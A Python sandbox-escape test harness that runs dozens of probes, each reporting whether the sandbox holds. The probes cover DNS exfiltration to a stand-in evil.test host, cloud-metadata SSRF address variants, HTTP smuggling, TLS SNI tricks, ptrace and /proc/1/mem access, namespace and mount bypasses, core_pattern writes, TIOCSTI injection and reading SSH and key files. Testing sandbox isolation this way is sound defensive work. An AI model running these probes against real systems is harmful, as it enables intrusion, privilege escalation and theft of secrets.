"""A command that tries to get out of its sandbox. Each try is a function that returns what it got
if it is out, and raises or returns nothing if it is held. Prints `NAME: held ...` or `NAME: OUT ...`.
Usage: hostile.py SETTINGS.json [TRY...]
       hostile.py SETTINGS.json --alone [TRY...]  # in a network in which it answers itself
       hostile.py SETTINGS.json --serve           # answers so to others, until it is ended
       hostile.py SETTINGS.json --outside         # is what others reach, until its input ends"""
import ctypes
import errno
import fcntl
import functools
import http.client
import json
import mmap
import os
import platform
import resource
import signal
import socket
import ssl
import stat
import struct
import sys
import termios
import threading

SETTINGS = json.load(open(sys.argv[1]))
HOST, PORT, UDP = SETTINGS["host"], SETTINGS["tcp"], SETTINGS["udp"]
TLS, PLAIN = SETTINGS["tls"], SETTINGS["plain"]
LIBC = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
WAIT = 5
TRIES = {}


def attempt(function):
    TRIES[function.__name__] = function
    return function

def attempts(function, **all):
    """One try with different arguments, each of which has a name."""
    for name, arguments in all.items():
        TRIES[name] = functools.partial(function, *arguments)


def call(number, *arguments):
    """A system call by its number. Returns its value, or raises its error."""
    words = [a if isinstance(a, (bytes, ctypes.Array)) or a is None else ctypes.c_long(a) for a in arguments]
    value = LIBC.syscall(ctypes.c_long(number), *words)
    if value < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return f"value {value}"


def apart(function):
    """Runs in a process of its own, and returns what it returns, or raises what it raises."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            said = function() or ""
        except BaseException as error:
            said = f"!{type(error).__name__}: {error}"
        os.write(writer, str(said).encode())
        os._exit(0)
    os.close(writer)
    said = os.read(reader, 4096).decode()
    os.close(reader)
    _, status = os.waitpid(child, 0)
    if said.startswith("!"):
        raise RuntimeError(said[1:])
    if os.WIFSIGNALED(status):
        raise RuntimeError(f"ended by signal {os.WTERMSIG(status)}")
    return said


def outside(said):
    """What servers outside say. An edge that refuses says something else."""
    return said if said == b"OUTSIDE" else None


def says(address, port=None, family=None, source=None):
    """What a TCP server outside says first."""
    stream = socket.socket(family or (socket.AF_INET6 if ":" in address else socket.AF_INET))
    stream.settimeout(WAIT)
    if source:
        stream.bind((source, 0))
    stream.connect((address, port or PORT))
    return outside(stream.recv(64))


def echoes(address, port=None):
    stream = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    stream.settimeout(1)
    stream.connect((address, port or UDP))
    stream.send(b"secret")
    return outside(stream.recv(64))


# Sockets.

attempts(
    says,
    tcp_loopback=("127.0.0.1",),
    tcp_loopback_v6=("::1", SETTINGS["tcp6"]),
    tcp_host_address=(HOST,),
    tcp_mapped_address=("::ffff:127.0.0.1",),
    tcp_other_loopback=("127.8.9.1",),
    tcp_unspecified=("0.0.0.0",),
    tcp_bound_to_host_address=(HOST, None, None, HOST),
    tcp_public_other_port=("192.0.2.1", 9),
    tcp_gateway_metadata=("169.254.169.254", 80),
)

attempts(
    echoes,
    udp_loopback=("127.0.0.1",),
    udp_host_address=(HOST,),
    udp_v6=("::1", SETTINGS["udp6"]),
    udp_quic=(HOST, 443),
)

@attempt
def raw_v4():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)

@attempt
def raw_v6():
    return socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)

@attempt
def packet():
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW)

@attempt
def vsock():
    return socket.socket(40, socket.SOCK_STREAM)

@attempt
def other_families():
    got = []
    for family in set(range(2, 64)) - {socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            try:
                got.append(socket.socket(family, kind).family)
            except OSError:
                pass
            try:
                got.append(socket.socketpair(family, kind)[0].family)
            except OSError:
                pass
    return got

@attempt
def other_devices():
    return [name for _, name in socket.if_nameindex() if name not in ("lo", "eyelet0")]

@attempt
def device_ioctl():
    stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fcntl.ioctl(stream, 0x8914, struct.pack("16sh14x", b"lo", 0))
    return "changed the device"

@attempt
def bind_to_other_device():
    stream = socket.socket()
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, SETTINGS["device"].encode())
    return "bound"

@attempt
def abstract_socket():
    stream = socket.socket(socket.AF_UNIX)
    stream.connect("\0" + SETTINGS["abstract"])
    return stream.recv(64)

def says_at(path):
    stream = socket.socket(socket.AF_UNIX)
    stream.connect(path)
    return outside(stream.recv(64))

attempts(
    says_at,
    path_socket_in_tmp=(SETTINGS["path_in_tmp"],),
    path_socket_elsewhere=(SETTINGS["path_elsewhere"],),
    path_socket_with_another_name=("below/renamed",),
    path_socket_of_a_relative_path=("relative",),
    path_socket_by_another_mount=("other/socket",),
    path_socket_of_another_network=("networked",),
)

@attempt
def inherited_descriptor():
    return os.read(SETTINGS["descriptor"], 64).decode()

@attempt
def address_is_added():
    """RTM_NEWADDR for the first device, 192.0.2.77/32."""
    stream = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = struct.pack("BBBBi", socket.AF_INET, 32, 0, 0, 1)
    body += struct.pack("HH", 8, 2) + socket.inet_aton("192.0.2.77")
    stream.send(struct.pack("IHHII", 16 + len(body), 20, 5 | 0x600, 1, 0) + body)
    code, = struct.unpack("i", stream.recv(4096)[16:20])
    return "added" if code == 0 else None


# DNS.

def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)

def ask(name, kind, server="9.9.9.9"):
    """The code of the answer, and the number of its records."""
    stream = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    stream.settimeout(WAIT)
    stream.connect((server, 53))
    stream.send(question(name, kind))
    answer = stream.recv(4096)
    return answer[3] & 15, sum(struct.unpack("!3H", answer[6:12]))

NXDOMAIN = 3

def is_known(*question):
    got = ask(*question)
    return got if got != (NXDOMAIN, 0) else None

attempts(
    is_known,
    dns_other_name=("c2VjcmV0.evil.test", 1),
    dns_other_name_v6=("c2VjcmV0.evil.test", 1, "2001:db8::53"),
    dns_below_listed_name=("c2VjcmV0.app.test", 1),
)

def has_records(*question):
    got = ask(*question)
    return got if got[1] else None

attempts(
    has_records,
    dns_text_of_listed_name=("app.test", 16),
    dns_https_of_listed_name=("app.test", 65),
    dns_any_of_other_name=("evil.test", 255),
)

@attempt
def dns_by_tcp():
    return says("9.9.9.9", 53)

@attempt
def dns_by_tls():
    return says("9.9.9.9", 853)

@attempt
def dns_hosts_file():
    return [ip for *_, (ip, *_) in socket.getaddrinfo("inner.test", 1) if ip.startswith("127.")]


# TLS.

def handshake(name, port=None, address=None, context=None):
    """What the server answers to a handshake with this name."""
    context = context or ssl._create_unverified_context()
    plain = socket.create_connection((address or "app.test", port or TLS), WAIT)
    stream = context.wrap_socket(plain, server_hostname=name)
    stream.send(b"GET / HTTP/1.0\r\n\r\n")
    return stream.recv(64)

def hello(name):
    """The bytes of a client's hello."""
    outgoing = ssl.MemoryBIO()
    tls = ssl._create_unverified_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()

def answer(pieces, address="app.test"):
    """The server's hello, if these bytes get one."""
    stream = socket.create_connection((address, TLS), WAIT)
    stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for piece in pieces:
        stream.send(piece)
    said = stream.recv(64)
    return said if said[:1] == b"\x16" else None

attempts(
    handshake,
    sni_of_other_name=("other.test",),
    sni_missing=(None,),
    sni_below_listed_name=("c2VjcmV0.app.test",),
    sni_ends_as_listed_name=("evilapp.test",),
    sni_of_private_address=("inner.test",),
    sni_of_mixed_addresses=("mixed.test",),
)

@attempt
def sni_of_other_name_at_any_address():
    return handshake("other.test", address=HOST)

@attempt
def hello_in_pieces():
    whole = hello("other.test")
    return answer(whole[at:at + 1] for at in range(len(whole)))

@attempt
def hello_in_records():
    message = hello("other.test")[5:]
    pieces = [message[at:at + 40] for at in range(0, len(message), 40)]
    return answer(b"\x16\x03\x01" + struct.pack("!H", len(piece)) + piece for piece in pieces)

@attempt
def hello_with_zero_in_name():
    return answer([hello("app.test\\0").replace(b"app.test\\0", b"app.test\0x")[:-1] + b"\0"])

@attempt
def hello_with_address_as_name():
    raw = hello("127.000.000.1a").replace(b"127.000.000.1a", b"127.0.0.0001\0\0")
    return answer([raw])

@attempt
def hello_with_two_names():
    whole = hello("app.test")
    names = whole.find(b"app.test") - 5
    # The list of names gets a second one in place of the bytes behind it.
    return answer([whole[:names] + struct.pack("!HBH", 19, 0, 8) + b"app.test" + whole[names + 13:]])

@attempt
def hello_with_ech():
    whole = hello("other.test")
    body = whole[9:]
    # Outer, HKDF-SHA256, AES-128-GCM, a config, a key and a payload (RFC 9849 section 5).
    outer = struct.pack("!BHHBH", 0, 1, 1, 7, 32) + bytes(32) + struct.pack("!H", 16) + bytes(16)
    extension = struct.pack("!HH", 0xfe0d, len(outer)) + outer
    at = 34 + 1 + body[34]
    at += 2 + struct.unpack("!H", body[at:at + 2])[0]
    at += 1 + body[at]
    size = struct.unpack("!H", body[at:at + 2])[0]
    body = body[:at] + struct.pack("!H", size + len(extension)) + extension + body[at + 2:]
    message = b"\1" + struct.pack("!I", len(body))[1:] + body
    return answer([b"\x16\x03\x01" + struct.pack("!H", len(message)) + message])

@attempt
def not_tls():
    stream = socket.create_connection(("app.test", TLS), WAIT)
    stream.send(b"SSH-2.0-secret\r\n")
    return stream.recv(64)


# HTTP.

def status(request, port=None):
    stream = socket.create_connection(("app.test", port or PLAIN), WAIT)
    stream.send(request)
    said = stream.recv(256)
    return said if said.startswith(b"HTTP/1.1 200") else None

attempts(
    status,
    http_host_of_other_name=(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n",),
    http_without_host=(b"GET / HTTP/1.0\r\n\r\n",),
    http_two_hosts=(b"GET / HTTP/1.1\r\nHost: app.test\r\nHost: other.test\r\n\r\n",),
    http_url_of_other_name=(b"GET http://other.test:%d/ HTTP/1.1\r\nHost: app.test\r\n\r\n" % PLAIN,),
    http_other_port=(b"GET / HTTP/1.1\r\nHost: app.test:%d\r\n\r\n" % PORT,),
    http_private_name=(b"GET / HTTP/1.1\r\nHost: inner.test\r\n\r\n",),
    http_smuggled=(b"GET / HTTP/1.1\r\nHost: app.test\r\nContent-Length: 4\r\n"
                  b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n",),
)

@attempt
def http_second_request():
    stream = socket.create_connection(("app.test", PLAIN), WAIT)
    stream.send(b"GET / HTTP/1.1\r\nHost: app.test\r\n\r\n")
    first = http.client.HTTPResponse(stream)
    first.begin()
    first.read()
    stream.send(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
    said = stream.recv(256)
    return said if said.startswith(b"HTTP/1.1 200") else None

ADDRESSES = ["127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "0",
    "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]",
    "localhost", "localhost.", "169.254.169.254", "2852039166", "0xa9fea9fe",
    "0251.0376.0251.0376", "169.254.43518", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]",
    "metadata.google.internal", "127.0.0.1.", "app.test@127.0.0.1", "127.0.0.1#app.test"]

@attempt
def http_addresses():
    got = []
    for address in ADDRESSES:
        for at in (f":{PORT}", f":{PLAIN}", ""):
            request = f"GET / HTTP/1.1\r\nHost: {address}{at}\r\nConnection: close\r\n\r\n"
            try:
                got.append(status(request.encode()) and address)
            except OSError:
                pass
    return [address for address in got if address]

@attempt
def http_connect():
    got = []
    for address in [*ADDRESSES, "other.test", HOST]:
        request = f"CONNECT {address}:{PORT} HTTP/1.1\r\nHost: {address}:{PORT}\r\n\r\n"
        try:
            got.append(status(request.encode()) and address)
        except OSError:
            pass
    return [address for address in got if address]

@attempt
def http_upgrade():
    stream = socket.create_connection(("app.test", PLAIN), WAIT)
    stream.send(b"GET / HTTP/1.1\r\nHost: other.test\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n")
    said = stream.recv(256)
    return said if said.startswith((b"HTTP/1.1 200", b"HTTP/1.1 101")) else None

@attempt
def tcp_entry_of_private_name():
    return says("inner.test", PORT)


# Other processes.

@attempt
def process_outside():
    os.kill(SETTINGS["process"], 0)
    return "there is one"

@attempt
def group_of_processes_outside():
    # 0: its leader is not in this namespace.
    return os.getpgrp() == 0 and "a group"

@attempt
def process_outside_in_proc():
    return open(f"/proc/{SETTINGS['process']}/cmdline").read()

@attempt
def namespace_of_first_process():
    return os.open("/proc/1/ns/net", os.O_RDONLY)

@attempt
def namespaces_by_setns():
    names = [f"/proc/{pid}/ns/net" for pid in ("1", SETTINGS["process"], os.getppid())]
    for name in names:
        try:
            if LIBC.setns(os.open(name, os.O_RDONLY), 0) == 0:
                return name
        except OSError:
            pass

@attempt
def trace_first_process():
    # PTRACE_SEIZE, which does not stop it.
    if LIBC.ptrace(0x4206, 1, None, None) == 0:
        return "attached"

@attempt
def memory_of_first_process():
    return os.open("/proc/1/mem", os.O_RDWR)

@attempt
def descriptors_of_first_process():
    got = []
    for number in os.listdir("/proc/1/fd"):
        try:
            got.append(os.open(f"/proc/1/fd/{number}", os.O_RDONLY | os.O_NONBLOCK))
        except OSError:
            pass
    return got

@attempt
def root_of_first_process():
    return os.listdir("/proc/1/root")

@attempt
def descriptor_of_first_process():
    held, got = os.pidfd_open(1), []
    for number in range(16):
        try:
            got.append(call(438, held, number, 0))
        except OSError:
            pass
    return got

@attempt
def shared_memory():
    if LIBC.shmget(SETTINGS["segment"], 0, 0) >= 0:
        return "there is one"

@attempt
def shared_memory_file():
    return os.listdir("/dev/shm")

@attempt
def message_queue():
    if LIBC.mq_open(SETTINGS["queue"].encode(), os.O_RDONLY) >= 0:
        return "there is one"

@attempt
def crash_report():
    """The host's program for crashes runs unless the limit is 1."""
    return resource.getrlimit(resource.RLIMIT_CORE) != (1, 1) and "one is made"

@attempt
def crash_report_by_a_new_limit():
    resource.setrlimit(resource.RLIMIT_CORE, (4096, 4096))
    return "one is made"


# Files.

@attempt
def folder_run():
    return [name for name in os.listdir("/run") if name != "resolv.conf"]

@attempt
def folder_tmp():
    return os.path.exists(SETTINGS["file_in_tmp"])

@attempt
def runtime_folder():
    return os.listdir(SETTINGS["runtime"])

@attempt
def list_is_read():
    return open("allow.txt").read()

@attempt
def list_is_changed():
    os.rename("allow.txt", "old.txt")
    return "renamed"

@attempt
def report_is_read():
    with open("report.json", "w") as file:
        file.write("forged")
    return open("report.json").read()

@attempt
def unmount():
    if LIBC.umount2(b"/tmp", 2) == 0:
        return "unmounted"

def nested(function, more=0):
    """Runs in a mount namespace, and a user namespace if that gives it more rights than it has."""
    def inner():
        if LIBC.unshare(0x20000 | more) and LIBC.unshare(0x10000000 | 0x20000 | more):
            raise OSError(ctypes.get_errno(), "unshare")
        return apart(function) if more & 0x20000000 else function()
    os.makedirs("mounts", exist_ok=True)
    return apart(inner)

def mounted(kind, source=b"none", options=None, flags=0):
    if LIBC.mount(source, b"mounts", kind, flags, options):
        raise OSError(ctypes.get_errno(), "mount")

def writable(names):
    """Those of these files that may be written."""
    got = []
    for name in names:
        try:
            os.close(os.open(name, os.O_WRONLY | os.O_NONBLOCK))
            got.append(name)
        except OSError:
            pass
    return got

@attempt
def unmount_in_nested_namespace():
    return nested(lambda: LIBC.umount2(b"/tmp", 2) == 0 and "unmounted")

@attempt
def bind_below_covers():
    def inner():
        mounted(None, b"/", flags=4096)
        return os.path.exists("mounts" + SETTINGS["file_in_tmp"])
    return nested(inner)

@attempt
def tree_below_covers():
    """open_tree(2), which copies a mount without those above it."""
    def inner():
        tree = int(call(428, -100, b"/", 1).split()[1])
        return os.stat(SETTINGS["file_in_tmp"].lstrip("/"), dir_fd=tree).st_ino
    return nested(inner)

@attempt
def overlay_below_covers():
    def inner():
        mounted(b"overlay", options=b"lowerdir=/:/dev/shm")
        return os.path.exists("mounts" + SETTINGS["file_in_tmp"])
    return nested(inner)

@attempt
def handle_below_covers():
    return nested(file_by_handle)

@attempt
def processes_mounted_again():
    def inner():
        mounted(b"proc")
        return writable(["mounts/sys/kernel/core_pattern", "mounts/sysrq-trigger"])
    return nested(inner, 0x20000000)

@attempt
def system_folder_mounted_again():
    def inner():
        mounted(b"sysfs")
        return writable(["mounts/kernel/uevent_helper", "mounts/kernel/mm/transparent_hugepage/enabled",
                         "mounts/power/state", "mounts/module/printk/parameters/time", "mounts/kernel/profiling"])
    return nested(inner, 0x40000000)

@attempt
def cgroups_mounted_again():
    def inner():
        mounted(b"cgroup2")
        return writable(["mounts/cgroup.procs", "mounts/cgroup.subtree_control"])
    return nested(inner, 0x02000000)

@attempt
def kernel_file_systems_elsewhere():
    return [name for name in SETTINGS["elsewhere"] if os.path.isdir(name) and os.listdir(name)]

@attempt
def kernel_debugging():
    return os.listdir("/sys/kernel/debug")

@attempt
def device_elsewhere():
    return os.read(os.open("device", os.O_RDONLY), 1)

@attempt
def keys_of_ssh():
    return os.listdir(os.path.expanduser("~/.ssh"))

@attempt
def keys_of_a_configuration():
    return open("edge.key").read()

@attempt
def keys_by_another_mount():
    return open("other/edge.key").read()

@attempt
def kernel_settings():
    name = "/proc/sys/kernel/core_pattern"
    return os.open(name, os.O_WRONLY)

@attempt
def kernel_request():
    return os.open("/proc/sysrq-trigger", os.O_WRONLY)

@attempt
def system_folder():
    found = []
    for folder, _, files in os.walk("/sys/fs"):
        for name in files[:20]:
            try:
                os.close(os.open(os.path.join(folder, name), os.O_WRONLY))
                found.append(name)
            except OSError:
                pass
        if len(found) > 3:
            break
    return found

@attempt
def devices():
    known = {"null", "zero", "full", "random", "urandom", "tty"}
    found = []
    for name in os.listdir("/dev"):
        mode = os.stat("/dev/" + name).st_mode if os.path.exists("/dev/" + name) else 0
        if name not in known | {"stdin", "stdout", "stderr", "ptmx"} and (stat.S_ISBLK(mode) or stat.S_ISCHR(mode)):
            found.append(name)
    return found

@attempt
def make_device():
    os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(254, 0))
    return "made"

@attempt
def file_by_handle():
    handle = ctypes.create_string_buffer(bytes.fromhex(SETTINGS["handle"]))
    opened = int(call(304, os.open("/", os.O_RDONLY), handle, os.O_RDONLY).split()[1])
    return os.read(opened, 64)


# Rights and system calls.

@attempt
def rights():
    said = dict(line.split(":\t") for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    kinds = ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"]
    found = [kind for kind in kinds if int(said[kind], 16)]
    return found or (said["NoNewPrivs"].strip() != "1" and "new rights")

@attempt
def change_root():
    return apart(lambda: LIBC.chroot(b"/etc") == 0 and "changed")

@attempt
def host_name():
    socket.sethostname("evil")
    return "changed"

@attempt
def io_uring():
    return call(425, 8, ctypes.create_string_buffer(256))

@attempt
def keys():
    return call(250, 0, -3, 1)

@attempt
def key_is_added():
    return call(248, b"user", b"secret", b"value", 5, -3)

@attempt
def key_is_asked_for():
    return call(249, b"user", b"secret", None, -3)

@attempt
def programs_of_the_kernel():
    return call(321, 0, ctypes.create_string_buffer(struct.pack("5I", 2, 4, 8, 1, 0) + bytes(100)), 72)

@attempt
def events_of_the_machine():
    """perf_event_open(2) for all processes on the first processor: PERF_TYPE_SOFTWARE."""
    attributes = ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0) + bytes(96))
    return call(298, attributes, -1, 0, -1, 0)

@attempt
def typing():
    master, slave = os.openpty()
    def inner():
        os.setsid()
        fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
        fcntl.ioctl(slave, termios.TIOCSTI, b"x")
        return "typed"
    return apart(inner)

@attempt
def foreign_abi():
    if not X86:
        return None
    def inner():
        # mov eax, 20 (getpid of i386); int 0x80; ret
        code = b"\xb8\x14\0\0\0\xcd\x80\xc3"
        page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        return f"process {ctypes.CFUNCTYPE(ctypes.c_int)(address)()}"
    return apart(inner)

@attempt
def x32_abi():
    """The kernel may not have it. That its filter is asked first is what holds where it has."""
    try:
        return X86 and call(0x40000000 | 41, 40, 1, 0)
    except OSError as error:
        return None if error.errno == errno.EAFNOSUPPORT else "not filtered"


# What answers.

def answers(listener, answer):
    def serve(stream):
        try:
            answer(stream)
        except OSError:
            pass
    def accept():
        while True:
            threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
    threading.Thread(target=accept, daemon=True).start()

def by_tls(stream):
    """Whoever does not speak TLS as OpenSSL does gets an answer as well."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain("app.pem", "app.key")
    tls = context.wrap_bio(incoming, outgoing, server_side=True)
    done, said = False, b""
    while not said:
        incoming.write(stream.recv(4096))
        try:
            done = done or tls.do_handshake() is None
            said = tls.read(64)
            tls.write(b"served")
        except ssl.SSLWantReadError:
            pass
        except ssl.SSLError:
            return stream.send(b"\x16 served")
        stream.send(outgoing.read())

def by_http(stream):
    while stream.recv(4096):
        stream.send(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")

def by_udp(port, answer, address="::"):
    stream = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    stream.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    # IPV6_FREEBIND: it is local by a route alone.
    stream.setsockopt(socket.IPPROTO_IPV6, 78, 1)
    stream.bind((address, port))
    def serve():
        while True:
            asked, address = stream.recvfrom(4096)
            stream.sendto(answer(asked), address)
    threading.Thread(target=serve, daemon=True).start()

def serve_alone():
    """Answers at each address and port that is tried, as nobody does inside."""
    says_outside = lambda stream: stream.send(b"OUTSIDE")
    tcp = {port: says_outside for port in (PORT, SETTINGS["tcp6"], 9, 53, 80, 853)}
    for port, answer in {**tcp, TLS: by_tls, PLAIN: by_http}.items():
        answers(socket.create_server(("::", port), family=socket.AF_INET6, dualstack_ipv6=True), answer)
    for port in {UDP, SETTINGS["udp6"], 443}:
        by_udp(port, lambda asked: b"OUTSIDE")
    # One record, which nobody reads.
    for address in ("::", "2001:db8::53"):
        by_udp(53, lambda asked: asked[:2] + struct.pack("!5H", 0x8180, 1, 1, 0, 0) + asked[12:], address)

def serve_at(path):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    os.chmod(path, 0o777)
    listener.listen()
    answers(listener, lambda stream: stream.send(b"OUTSIDE"))

def be_outside():
    """Is what lives outside until its input ends, and says when it does."""
    # In a folder of its own: where one is missing, all that are beside it are found.
    os.makedirs("below", exist_ok=True)
    for name in ("below/old", "relative"):
        serve_at(name)
    os.rename("below/old", "below/renamed")
    ready, told = os.pipe()
    child = os.fork()
    if child == 0:
        LIBC.unshare(0x40000000 | (0x10000000 if os.geteuid() else 0))
        serve_at(os.path.abspath("networked"))
        os.write(told, b".")
        signal.pause()
    os.read(ready, 1)
    segment = LIBC.shmget(SETTINGS["segment"], 4096, 0o1666)
    LIBC.mq_open(SETTINGS["queue"].encode(), os.O_CREAT | os.O_RDWR, 0o666, (ctypes.c_long * 8)(0, 1, 1))
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    number = ctypes.c_int()
    LIBC.name_to_handle_at(-100, SETTINGS["file_in_tmp"].encode(), handle, ctypes.byref(number), 0)
    print(f"handle {handle.raw.hex()}", flush=True)
    sys.stdin.read()
    os.kill(child, signal.SIGKILL)
    LIBC.shmctl(segment, 0, None)
    LIBC.mq_unlink(SETTINGS["queue"].encode())
    print("gone", flush=True)

def main():
    tries = sys.argv[2:]
    if tries == ["--outside"]:
        return be_outside()
    if tries == ["--serve"]:
        serve_alone()
        print("ready", flush=True)
        return signal.pause()
    if tries[:1] == ["--alone"]:
        serve_alone()
        tries = tries[1:]
    for name in tries or TRIES:
        try:
            got = TRIES[name]()
            print(f"{name}: {'OUT' if got else 'held'} {got or ''}", flush=True)
        except Exception as error:
            print(f"{name}: held {type(error).__name__}: {error}", flush=True)


if sys.argv[2:] != ["--outside"]:
    signal.alarm(55)
main()
